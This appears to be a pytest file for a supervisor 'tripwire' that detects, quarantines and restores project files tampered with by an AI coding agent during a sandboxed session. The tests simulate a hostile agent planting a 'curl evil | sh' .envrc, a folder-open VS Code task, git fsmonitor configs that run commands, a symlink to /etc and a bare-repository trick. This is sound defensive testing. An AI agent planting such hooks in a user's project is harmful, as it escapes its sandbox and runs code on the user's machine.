"""The tripwire on real folders: arm, let a hostile "agent" change things, settle, accept."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from launch.hostfacts import gather_surface
from launch.surface import plan_protection
from supervisor import tripwire
from supervisor.remove_tree import remove_tree
from tests.supervisor.test_remove_tree import chain


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "p"
    (root / ".git/hooks").mkdir(parents=True)
    (root / ".git/config").write_text("[core]\n")
    (root / ".envrc").symlink_to("envrc.real")
    return root


def arm(state: Path, root: Path, *, commit: bool = False) -> None:
    tripwire.arm(state, "run-1", root, plan_protection(gather_surface(root), commit=commit))


def test_nothing_changed_means_no_notice(tmp_path: Path, project: Path) -> None:
    arm(tmp_path / "state", project)
    report = tripwire.settle(tmp_path / "state", "run-1")
    assert report is not None and report.changes == () and report.notice() is None
    assert tripwire.settle(tmp_path / "state", "run-1") is None  # settled once


def test_created_settings_are_quarantined_and_replaced_links_restored(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    arm(state, project)
    # the agent: new tool settings, a replaced symlink, a FIFO where a config is read
    (project / ".vscode").mkdir()
    (project / ".vscode/tasks.json").write_text('{"runOn": "folderOpen"}')
    (project / ".envrc").unlink()
    (project / ".envrc").write_text("curl evil | sh\n")
    os.mkfifo(project / ".pre-commit-config.yaml")
    (project / ".claude").symlink_to("/etc")
    report = tripwire.settle(state, "run-1")
    assert report is not None
    assert {c.relative for c in report.changes} == {".vscode", ".envrc", ".pre-commit-config.yaml", ".claude"}
    assert not (project / ".vscode").exists() and not os.path.lexists(project / ".claude")
    assert os.readlink(project / ".envrc") == "envrc.real"  # the original symlink is back
    assert not os.path.lexists(project / ".pre-commit-config.yaml")
    assert report.quarantine is not None
    assert (report.quarantine / "files/.vscode/tasks.json").read_text() == '{"runOn": "folderOpen"}'
    assert (report.quarantine / "files/.envrc").read_text() == "curl evil | sh\n"
    assert os.readlink(report.quarantine / "files/.claude") == "/etc"  # moved as a link, never followed
    assert (report.quarantine / "manifest.json").stat().st_mode & 0o777 == 0o600
    notice = report.notice()
    assert notice is not None and str(report.quarantine) in notice
    assert f"llm-docker quarantine accept {report.quarantine_id}" in notice
    assert "\n" not in notice


def test_accept_puts_the_reviewed_change_back(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    arm(state, project)
    (project / ".vscode").mkdir()
    (project / ".vscode/settings.json").write_text("{}")
    (project / ".envrc").unlink()
    (project / ".envrc").write_text("export A=1\n")
    report = tripwire.settle(state, "run-1")
    assert report is not None and report.quarantine_id is not None
    assert [q.quarantine_id for q in tripwire.quarantined(state)] == [report.quarantine_id]
    tripwire.accept(state, report.quarantine_id)
    assert (project / ".vscode/settings.json").read_text() == "{}"
    assert (project / ".envrc").read_text() == "export A=1\n"
    assert tripwire.quarantined(state) == []


def test_accept_never_overwrites_what_the_user_made_since(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    arm(state, project)
    (project / ".idea").mkdir()
    report = tripwire.settle(state, "run-1")
    assert report is not None and report.quarantine_id is not None
    (project / ".idea").mkdir()
    with pytest.raises(tripwire.QuarantineError, match="exists now"):
        tripwire.accept(state, report.quarantine_id)
    with pytest.raises(tripwire.QuarantineError, match="no quarantine"):
        tripwire.accept(state, "../..")


def test_commit_mode_catches_a_commondir_redirection(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    arm(state, project, commit=True)
    assert (project / ".git/info").is_dir()  # created so it can be pinned
    (project / ".git/commondir").write_text("../.x\n")
    report = tripwire.settle(state, "run-1")
    assert report is not None and [c.relative for c in report.changes] == [".git/commondir"]
    assert not (project / ".git/commondir").exists()


def test_an_agent_made_repository_in_a_project_without_git_is_quarantined(tmp_path: Path) -> None:
    root = tmp_path / "plain"
    root.mkdir()
    state = tmp_path / "state"
    arm(state, root)
    (root / ".git/hooks").mkdir(parents=True)
    (root / ".git/config").write_text('[core]\n\tfsmonitor = "touch /tmp/pwned"\n')
    report = tripwire.settle(state, "run-1")
    assert report is not None and [c.relative for c in report.changes] == [".git"]
    assert not (root / ".git").exists()


def test_nested_repositories_and_settings_changed_in_the_session(tmp_path: Path, project: Path) -> None:
    vendored = project / "vendor/x/.git"
    (vendored / "hooks").mkdir(parents=True)
    (vendored / "config").write_text("[core]\n")
    (project / "node_modules/pkg").mkdir(parents=True)
    state = tmp_path / "state"
    arm(state, project)
    # the user's own git work in the vendored repository changes only its index and refs
    (vendored / "index").write_text("x")
    (vendored / "refs").mkdir()
    # the agent: a new repository in a sub-folder, a hook in the vendored one, settings in a package
    (project / "src/.git").mkdir(parents=True)
    (project / "src/.git/config").write_text('[core]\n\tfsmonitor = "touch /tmp/pwned"\n')
    (vendored / "hooks/pre-commit").write_text("#!/bin/sh\n")
    (project / "docs").mkdir()
    (project / "docs/.envrc").write_text("x\n")
    (project / "node_modules/pkg/.vscode").mkdir()
    report = tripwire.settle(state, "run-1")
    assert report is not None
    assert {c.relative for c in report.changes} == {"src/.git", "vendor/x/.git", "docs/.envrc"}
    assert not (project / "src/.git").exists() and not (project / "vendor/x/.git").exists()
    assert (project / "node_modules/pkg/.vscode").is_dir()  # packages are not walked


def test_a_nested_repository_used_only_by_ordinary_git_commands_stays(tmp_path: Path, project: Path) -> None:
    vendored = project / "vendor/x/.git"
    (vendored / "hooks").mkdir(parents=True)
    (vendored / "config").write_text("[core]\n")
    state = tmp_path / "state"
    arm(state, project)
    (vendored / "index").write_text("x")
    (vendored / "FETCH_HEAD").write_text("x")
    report = tripwire.settle(state, "run-1")
    assert report is not None and report.changes == ()
    assert vendored.is_dir()


def test_a_folder_made_into_a_bare_repository_loses_its_git_entries(tmp_path: Path, project: Path) -> None:
    """git run in a folder with HEAD, objects/ and refs/ uses it as the repository (before
    looking for .git): the agent's config there would run."""
    (project / "src").mkdir()
    (project / "src/main.c").write_text("int main;\n")
    state = tmp_path / "state"
    arm(state, project)
    for folder in ("objects", "refs", "hooks"):
        (project / "src" / folder).mkdir()
    (project / "src/HEAD").write_text("ref: refs/heads/main\n")
    (project / "src/config").write_text('[core]\n\tbare = false\n\tfsmonitor = "touch /tmp/x"\n')
    report = tripwire.settle(state, "run-1")
    assert report is not None
    assert {c.relative for c in report.changes} == {"src/HEAD", "src/config", "src/hooks"}
    assert not (project / "src/HEAD").exists() and not (project / "src/config").exists()
    assert (project / "src/main.c").is_file() and (project / "src/objects").is_dir()  # the user's files stay


def test_a_chain_of_folders_deeper_than_the_walk_is_named_not_a_crash(tmp_path: Path, project: Path) -> None:
    """The walk recurses: an agent's chain of thousands of folders would end the check with a
    RecursionError (Python 3.11) — no quarantine, no notice. Beyond the bound: one problem."""
    state = tmp_path / "state"
    arm(state, project)
    chain(project, 1500)
    (project / "src/.git").mkdir(parents=True)
    (project / "src/.git/config").write_text('[core]\n\tfsmonitor = "touch /tmp/pwned"\n')
    try:
        report = tripwire.settle(state, "run-1")
    finally:
        remove_tree(project / "d")  # pytest's own clean-up of old runs would recurse into it
    assert report is not None
    assert [c.relative for c in report.changes] == ["src/.git"]  # the rest of the walk still ran
    assert f"deeper than {tripwire.MAX_NESTED_DEPTH} levels" in (report.notice() or "")
